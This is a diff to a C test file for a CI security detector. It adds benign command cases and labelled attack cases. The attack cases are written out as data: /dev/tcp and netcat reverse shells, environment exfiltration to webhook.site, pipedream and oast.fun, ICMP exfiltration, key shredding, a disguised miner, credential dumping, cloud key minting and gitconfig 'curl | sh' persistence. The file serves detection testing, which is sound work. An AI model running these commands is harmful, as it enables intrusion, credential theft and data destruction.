@@ -1848,6 +1848,11 @@ static const struct exec_case ordinary[] = {
 	{ "/usr/bin/dash",
 	  ARGV("sh", "-c", "until echo > /dev/tcp/localhost/5432; do sleep 1; done 2>/dev/null"),
 	  SH_MAKE, NULL },
+	{ "/usr/bin/bash",
+	  ARGV("bash", "-c",
+	       "exec 3<>/dev/tcp/$HOST/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; "
+	       "while read -r l <&3; do echo \"$l\"; done"),
+	  SH_MAKE, NULL },
 	{ "/usr/bin/tar", ARGV("tar", "czf", "dist.tar.gz", "build/", "docs/"), SH_MAKE, NULL },
 	{ "/usr/bin/strip", ARGV("strip", "--strip-unneeded", "prog"), SH_MAKE, NULL },
 	{ "/usr/bin/install", ARGV("install", "-m", "0755", "prog", "/tmp/stage/usr/bin/"),
@@ -1902,6 +1907,26 @@ static const struct exec_case ordinary[] = {
 	  NULL },
 	{ "/usr/bin/find", ARGV("find", "/home/ci", "-name", "*.pyc"), SH_MAKE, NULL },
 	{ "/usr/bin/gitlab-runner", ARGV("gitlab-runner", "--version"), SH_MAKE, NULL },
+	/* npm's ordinary configuration; the CLIs' ordinary calls */
+	{ "/usr/bin/npm", ARGV("npm", "config", "set", "registry", "https://registry.npmjs.org/"),
+	  SH_MAKE, NULL },
+	{ "/usr/bin/gh", ARGV("gh", "auth", "status"), SH_MAKE, NULL },
+	{ "/usr/local/bin/aws", ARGV("aws", "configure", "get", "region"), SH_MAKE, NULL },
+	{ "/usr/local/bin/aws", ARGV("aws", "iam", "get-role", "--role-name", "deploy"), SH_MAKE, NULL },
+	{ "/usr/local/bin/aws", ARGV("aws", "s3", "cp", "dist/", "s3://b/create-access-key/", "--recursive"),
+	  SH_MAKE, NULL },
+	{ "/bin/busybox", ARGV("busybox", "nc", "-l", "-p", "8080"), SH_MAKE, NULL },
+	{ "/bin/busybox", ARGV("busybox", "--install", "-s"), SH_MAKE, NULL },
+	{ "/bin/busybox", ARGV("wget", "-q", "-O", "/tmp/x.tgz", "https://example.org/x.tgz"), SH_MAKE,
+	  NULL },
+	/* ping without a payload; ps without environments; ordinary URLs */
+	{ "/usr/bin/ping", ARGV("ping", "-c", "3", "-W", "1", "db"), SH_MAKE, NULL },
+	{ "/usr/bin/ps", ARGV("ps", "aux"), SH_MAKE, NULL },
+	{ "/usr/bin/ps", ARGV("ps", "-eo", "pid,etime,comm"), SH_MAKE, NULL },
+	{ "/usr/bin/ps", ARGV("ps", "-p", "42", "-o", "etime="), SH_MAKE, NULL },
+	{ "/usr/bin/curl", ARGV("curl", "-fsSL", "https://api.github.com/repos/o/webhook.site-docs"),
+	  SH_MAKE, NULL },
+	{ "/usr/bin/git", ARGV("git", "clone", "https://github.com/o/transfer.sh.git"), SH_MAKE, NULL },
 	{ "/usr/bin/lsattr", ARGV("lsattr", "-d", "/tmp"), SH_MAKE, NULL },
 	{ "/usr/bin/ssh",
 	  ARGV("ssh", "-oUserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no", "-i", "k",
@@ -1963,6 +1988,10 @@ static const struct exec_case attacks[] = {
 	  "reverse-shell-dev-tcp" },
 	{ "/usr/bin/bash",
 	  ARGV("bash", "-c", "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read l; do $l 2>&5 >&5; done"),
+	  NPM_ANC, "reverse-shell-dev-tcp" },
+	{ "/usr/bin/bash",
+	  ARGV("bash", "-c",
+	       "exec 5<>/dev/tcp/1.2.3.4/443; while read -r line <&5; do eval \"$line\" >&5 2>&5; done"),
 	  NPM_ANC, "reverse-shell-dev-tcp" },
 	{ "/usr/bin/nc.traditional", ARGV("nc", "-e", "/bin/sh", "1.2.3.4", "4444"), NPM_ANC,
 	  "reverse-shell-netcat" },
@@ -2076,6 +2105,58 @@ static const struct exec_case attacks[] = {
 	  ARGV("gitlab-runner", "register", "--non-interactive", "--url", "https://gitlab.com/",
 	       "--token", "glrt-x"),
 	  NPM_ANC, "remote-access-tunnel" },
+	/* busybox's applets are judged as the tools they are */
+	{ "/bin/busybox", ARGV("nc", "203.0.113.9", "4444", "-e", "/bin/sh"), NPM_ANC,
+	  "reverse-shell-netcat" },
+	{ "/bin/busybox", ARGV("busybox", "nc", "203.0.113.9", "4444", "-e", "/bin/sh"), NPM_ANC,
+	  "reverse-shell-netcat" },
+	{ "/usr/bin/busybox", ARGV("/usr/bin/busybox", "shred", "-u", "/home/ci/.ssh/id_rsa"),
+	  NPM_ANC, "data-destruction" },
+	/* exfiltration services by URL, however the name is resolved */
+	{ "/usr/bin/curl",
+	  ARGV("curl", "--resolve", "webhook.site:443:127.0.0.1", "-d", "@-",
+	       "https://webhook.site/5e3b0c4a-9d1f"),
+	  NPM_ANC, "exfiltration-service-url" },
+	{ "/usr/bin/python3.11",
+	  ARGV("python3", "-c",
+	       "import os,urllib.request as u;u.urlopen('https://eo1a2b3c.m.pipedream.net',str(os.environ).encode())"),
+	  NPM_ANC, "exfiltration-service-url" },
+	{ "/usr/bin/wget", ARGV("wget", "--post-file=/tmp/e", "http://abc123.oast.fun/x"), NPM_ANC,
+	  "exfiltration-service-url" },
+	/* ICMP payloads */
+	{ "/usr/bin/ping", ARGV("ping", "-c", "1", "-p", "414b4941", "203.0.113.5"), NPM_ANC,
+	  "exfiltration-over-icmp" },
+	{ "/usr/sbin/hping3", ARGV("hping3", "-1", "-E", "/tmp/secrets", "-d", "1400", "h"), NPM_ANC,
+	  "exfiltration-over-icmp" },
+	/* a miner renamed: its options and its wallet give it away */
+	{ "/tmp/.x/kworker",
+	  ARGV("kworker", "-o", "pool.example:443", "-u",
+	       "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+	       "-k", "--tls"),
+	  NPM_ANC, "crypto-miner" },
+	{ "/tmp/.x/cache-warmer", ARGV("cache-warmer", "-a", "rx/0", "--donate-level=1", "-B"), NPM_ANC,
+	  "crypto-miner" },
+	/* stored tokens printed by their own tools */
+	{ "/usr/bin/npm", ARGV("npm", "config", "get", "//registry.npmjs.org/:_authToken"), NPM_ANC,
+	  "credential-hunting" },
+	{ "/usr/bin/gh", ARGV("gh", "auth", "token"), NPM_ANC, "credential-hunting" },
+	{ "/usr/local/bin/aws", ARGV("aws", "configure", "get", "aws_secret_access_key"), NPM_ANC,
+	  "credential-hunting" },
+	/* keys minted for later */
+	{ "/usr/local/bin/aws", ARGV("aws", "iam", "create-access-key", "--user-name", "ci-deploy"),
+	  NPM_ANC, "cloud-account-persistence" },
+	{ "/usr/bin/gcloud",
+	  ARGV("gcloud", "iam", "service-accounts", "keys", "create", "k.json", "--iam-account", "x"),
+	  NPM_ANC, "cloud-account-persistence" },
+	{ "/usr/bin/az", ARGV("az", "ad", "sp", "credential", "reset", "--id", "x"), NPM_ANC,
+	  "cloud-account-persistence" },
+	/* scanners and post-exploitation kits */
+	{ "/usr/bin/nmap", ARGV("nmap", "-sT", "10.0.0.0/24"), NPM_ANC, "offensive-tool-run" },
+	{ "/usr/bin/bash", ARGV("bash", "/tmp/linpeas.sh", "-a"), NPM_ANC, "offensive-tool-run" },
+	{ "/tmp/x/deepce.sh", ARGV("./deepce.sh"), NPM_ANC, "offensive-tool-run" },
+	{ "/tmp/pspy64", ARGV("/tmp/pspy64", "-pf"), NPM_ANC, "offensive-tool-run" },
+	/* other processes' environments listed */
+	{ "/usr/bin/ps", ARGV("ps", "auxeww"), NPM_ANC, "credential-hunting" },
 	/* Shai-Hulud 2.0's wiper, and the others' */
 	{ "/usr/bin/shred", ARGV("shred", "-uvz", "-n", "1", "/home/ci/.ssh/id_rsa"), NPM_ANC,
 	  "data-destruction" },
@@ -2593,6 +2674,21 @@ static void test_default_provenance(void **state)
 	assert_false(ev_matches(p, e, "credential-file-access"));
 	/* logs and histories wiped: truncated, overwritten, removed, linked
 	 * to /dev/null; appended to, or rotated by their tools, not */
+	/* udev rules, autostart entries, PAM, sshd's configuration */
+	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "echo x > f"), NPM_ANC);
+	e = ev_file(&x, "open-write", "/etc/udev/rules.d/99-usb.rules", NULL, 0, false);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "open-write", "/home/ci/.config/autostart/sync.desktop", NULL, 0, false);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "open-write", "/etc/pam.d/common-auth", NULL, 0, false);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "rename", "/tmp/x.so", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", 0,
+		    false);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "open-write", "/etc/ssh/sshd_config.d/50-root.conf", NULL, 0, false);
+	assert_true(ev_matches(p, e, "persistence-write"));
+	e = ev_file(&x, "open-write", "/etc/ssh/ssh_host_ed25519_key", NULL, 0, false);
+	assert_false(ev_matches(p, e, "persistence-write"));
 	e = ev_file(&x, "open-write", "/var/log/auth.log", NULL, 0, false);
 	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", ": > /var/log/auth.log"), NPM_ANC);
 	assert_true(ev_matches(p, e, "indicator-removal"));
@@ -2700,6 +2796,34 @@ static const struct content_case content_cases[] = {
 	  "/usr/bin/tee", "dependency-source-redirected", false },
 	{ "/etc/hosts", "10.0.0.5 github.com.internal.example", "/usr/bin/tee",
 	  "dependency-source-redirected", false },
+	/* git's configuration written as a file: commands it runs later; a
+	 * CI's identity, URL rewrites and safe directories are none */
+	{ "/home/ci/.gitconfig", "[core]\n\tfsmonitor = \"curl -s x | sh\"\n", "/usr/bin/bash",
+	  "git-config-file-persistence", true },
+	{ "/home/ci/.gitconfig", "[alias]\n  st = \"!sh -c 'id' && git status\"", "/usr/bin/tee",
+	  "git-config-file-persistence", true },
+	{ "/etc/gitconfig", "[core]\nhooksPath = /tmp/.h", "/usr/bin/python3.11",
+	  "git-config-file-persistence", true },
+	{ "/w/src/project/.git/config", "[core]\n\tsshCommand = sh -c 'curl x|sh' #", "/usr/bin/bash",
+	  "git-config-file-persistence", true },
+	{ "/home/ci/.gitconfig",
+	  "[user]\n\tname = CI\n[url \"https://x@github.com/\"]\n\tinsteadOf = https://github.com/\n"
+	  "[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = true\n",
+	  "/usr/bin/bash", "git-config-file-persistence", false },
+	{ "/w/src/project/.git/config", "[core]\n\thooksPath = .husky\n", "/usr/bin/bash",
+	  "git-config-file-persistence", false },
+	{ "/home/ci/.gitconfig", "[core]\n\tfsmonitor = /tmp/x", "/usr/bin/git",
+	  "git-config-file-persistence", false },
+	/* .npmrc: code for every npm script; the registry and its token are none */
+	{ "/home/ci/.npmrc", "node-options=--require /tmp/.n/hook.js\n", "/usr/bin/bash", ENV_INJ,
+	  true },
+	{ "/home/ci/.npmrc", "script-shell=/dev/shm/.sh\n", "/usr/bin/python3.11", ENV_INJ, true },
+	{ "/home/ci/.npmrc",
+	  "//registry.npmjs.org/:_authToken=${NODE_AUTH_TOKEN}\nregistry=https://registry.npmjs.org/\n"
+	  "always-auth=true\nnode-options=--max-old-space-size=4096\n",
+	  "/usr/bin/bash", ENV_INJ, false },
+	{ "/home/ci/.npmrc", "node-options=--require /tmp/.n/hook.js\n", "/usr/bin/npm", ENV_INJ,
+	  false },
 	/* resolv.conf by a job, and by the host's DHCP client */
 	{ "/etc/resolv.conf", "nameserver 203.0.113.9\n", "/usr/bin/bash", "resolver-changed", true },
 	{ "/etc/resolv.conf", "nameserver 10.0.0.2\n", "/usr/sbin/dhclient-script",
